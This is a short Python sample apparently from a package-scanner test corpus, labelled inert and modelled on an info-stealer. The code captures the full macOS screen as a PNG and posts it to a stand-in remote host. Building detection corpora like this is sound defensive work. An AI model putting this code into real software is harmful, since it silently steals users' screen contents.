# pkgguard corpus 407 (screenshot), modelled on [stealer-profile]; inert, never run.
import Quartz
import requests
from AppKit import NSBitmapImageRep, NSPNGFileType

image = Quartz.CGWindowListCreateImage(
    Quartz.CGRectInfinite, Quartz.kCGWindowListOptionOnScreenOnly, Quartz.kCGNullWindowID, Quartz.kCGWindowImageDefault
)
png = NSBitmapImageRep.alloc().initWithCGImage_(image).representationUsingType_properties_(NSPNGFileType, None)
requests.post("https://img.example/m", data=bytes(png), timeout=10)
